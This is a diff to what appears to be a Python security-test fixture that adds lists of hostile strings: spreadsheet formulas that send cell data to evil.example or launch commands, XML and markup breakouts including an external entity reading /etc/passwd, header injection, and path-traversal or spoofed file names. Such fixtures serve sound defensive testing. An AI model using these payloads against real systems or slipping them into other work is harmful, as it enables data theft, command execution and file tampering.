@@ -1,4 +1,4 @@
-"""Texts, titles, names and addresses that try to be more than words."""
+"""Texts, titles, names, addresses and file names that try to be more than words."""
 
 from __future__ import annotations
 
@@ -56,4 +56,36 @@ ADDRESSES = (
     "https://user:secret@example.org/",
     "\x01javascript:window.pwned=1",
 )
-WORDS = (*SCRIPTS, *CONTROLS)
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\uff1d1+1",
+)
+MARKUP = (
+    "]]><script>window.pwned=1</script><![CDATA[",
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "</text></svg><script>window.pwned=1</script>",
+    '</summary></entry><entry><link href="http://evil.example/"/>',
+    "'); } </style><img src=http://evil.example/x.png>",
+    'x"}],"objects":[{"type":"malware',
+    "x\r\nSet-Cookie: session=planted\r\n\r\n<script>window.pwned=1</script>",
+)
+FILES = (
+    "../../../../tmp/pwned.txt",
+    "..\\..\\pwned.txt",
+    "%2e%2e%2fpwned.txt",
+    "/etc/passwd",
+    "CON.txt",
+    "<img src=x onerror=window.pwned=1>.txt",
+    '"; filename="pwned.txt',
+    "pwned\u202etxt.exe",
+    "=1+1.csv",
+    "n" * 250 + ".txt",
+    "-rf.txt",
+    "a\nb.txt",
+)
+WORDS = (*SCRIPTS, *CONTROLS, *FORMULAS, *MARKUP)
